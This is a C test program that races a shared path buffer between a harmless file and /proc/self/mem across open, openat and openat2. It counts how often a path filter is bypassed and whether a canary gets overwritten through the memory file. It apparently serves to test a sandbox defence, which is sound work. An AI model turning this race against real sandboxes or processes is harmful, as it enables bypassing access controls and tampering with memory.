/*
 * race THREADS OPENS SECONDS HARMLESS [GOAL]
 *
 * One thread keeps writing the names of a harmless file and of /proc/self/mem by
 * turns into one buffer; THREADS threads open whatever the buffer says at that
 * moment, with every open call in turn. It ends after OPENS opens or SECONDS,
 * or when GOAL memory descriptors were got, and prints
 *
 *   RACE opens N harmless N refused N torn N memory N changed N
 *
 * "memory" counts descriptors that fstatfs and readlink say are a mem file on
 * procfs, "changed" those through which the canary was then changed.
 */
#include "attack.h"
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/vfs.h>
#include <time.h>

#define PROC_SUPER_MAGIC 0x9fa0

static char path[64] __attribute__((aligned(64)));
static char harmless[64] __attribute__((aligned(64)));
static const char memory[64] __attribute__((aligned(64))) = "/proc/self/mem";
static atomic_ulong opens, plain, refused, torn, got, changed;
static unsigned long limit, goal = ~0ul;
static atomic_int stop;
static pthread_mutex_t one = PTHREAD_MUTEX_INITIALIZER;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(path, memory, sizeof path);
		__asm__ volatile("" ::: "memory");
		for (volatile int i = 0; i < 100; i++)
			;
		memcpy(path, harmless, sizeof path);
		__asm__ volatile("" ::: "memory");
		for (volatile int i = 0; i < 100; i++)
			;
	}
	return NULL;
}

static void examine(int fd, int writable)
{
	struct statfs fs;
	char link[64], name[64] = "";
	if (fstatfs(fd, &fs) || fs.f_type != PROC_SUPER_MAGIC) {
		plain++;
		return;
	}
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(link, name, sizeof name - 1);
	if (n < 4 || strcmp(name + n - 4, "/mem")) {
		plain++;
		return;
	}
	got++;
	pthread_mutex_lock(&one);
	uint64_t v = CANARY_NEW;
	if (writable && pwrite(fd, &v, sizeof v, (off_t)(uintptr_t)&canary) == sizeof v && canary == CANARY_NEW)
		changed++;
	canary = CANARY_OLD;
	pthread_mutex_unlock(&one);
}

static int open_once(unsigned long turn, int flags)
{
	struct open_how how = { .flags = (uint64_t)flags };
	switch (turn % 3) {
#ifdef __NR_open
	case 0: return (int)syscall(__NR_open, path, flags);
#endif
	case 1: return (int)syscall(__NR_openat2, AT_FDCWD, path, &how, sizeof how);
	default: return (int)syscall(__NR_openat, AT_FDCWD, path, flags);
	}
}

static void *opener(void *arg)
{
	unsigned long turn = (unsigned long)(uintptr_t)arg;
	while (!stop && opens++ < limit && got < goal) {
		int writable = turn++ & 1;
		int fd = open_once(turn, writable ? O_RDWR : O_RDONLY);
		if (fd >= 0) {
			examine(fd, writable);
			close(fd);
		} else if (errno == EACCES || errno == EPERM) {
			refused++;
		} else {
			torn++;
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int threads = atoi(argv[1]);
	limit = strtoul(argv[2], NULL, 10);
	struct timespec nap = { 0, 20000000 };
	time_t end = time(NULL) + atoi(argv[3]);
	snprintf(harmless, sizeof harmless, "%s", argv[4]);
	memcpy(path, harmless, sizeof path);
	if (argc > 5)
		goal = strtoul(argv[5], NULL, 10);

	pthread_t f, t[64];
	pthread_create(&f, NULL, flip, NULL);
	for (int i = 0; i < threads && i < 64; i++)
		pthread_create(&t[i], NULL, opener, (void *)(uintptr_t)i);
	while (time(NULL) < end && opens < limit && got < goal)
		nanosleep(&nap, NULL);
	stop = 1;
	for (int i = 0; i < threads && i < 64; i++)
		pthread_join(t[i], NULL);
	pthread_join(f, NULL);
	printf("RACE opens %lu harmless %lu refused %lu torn %lu memory %lu changed %lu\n",
	       plain + refused + torn + got, (unsigned long)plain, (unsigned long)refused,
	       (unsigned long)torn, (unsigned long)got, (unsigned long)changed);
	return 0;
}
